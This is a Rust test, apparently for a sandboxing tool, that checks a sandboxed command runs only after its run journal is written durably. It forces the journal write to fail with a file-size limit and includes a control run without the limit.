/// The command starts only once its run's journal is durable (issue 32, item 3: the journal is
/// written on a thread of its own while the sandbox is set up, and the init forks the command
/// only when told it is): a journal that cannot be written (here a file size limit, `ulimit
/// -f`, under which its write fails with EFBIG) refuses the run before the command does
/// anything, so no run goes unrecorded for the sweep a killed supervisor leaves to the next
/// run. Control: the same run without the limit runs the command.
#[test]
fn the_command_waits_for_its_journal() {
    let fx = Fixture::new();
    let ran = fx.ws.join("ran");
    let script = |limit: &str| {
        format!(
            "trap '' XFSZ; {limit} exec {} run --workspace {} -- sh -c ': > ran'",
            attacks::sh_quote(stockade_bin()),
            attacks::sh_quote(&fx.ws)
        )
    };
    // The journal directory exists (made by a first run), so the journal is attempted.
    fx.host(&script("")).run().assert_success();
    std::fs::remove_file(&ran).expect("the first run ran");
    let limited = fx.host(&script("ulimit -f 4;")).run();
    assert_ne!(limited.code(), 0, "{}", limited.describe());
    limited.assert_stderr_contains("journal");
    assert!(
        !ran.exists(),
        "the command ran before its journal was written\n{}",
        limited.describe()
    );
    // Control: without the limit the same run runs its command.
    fx.host(&script("")).run().assert_success();
    assert!(ran.exists(), "control: the command did not run");
}
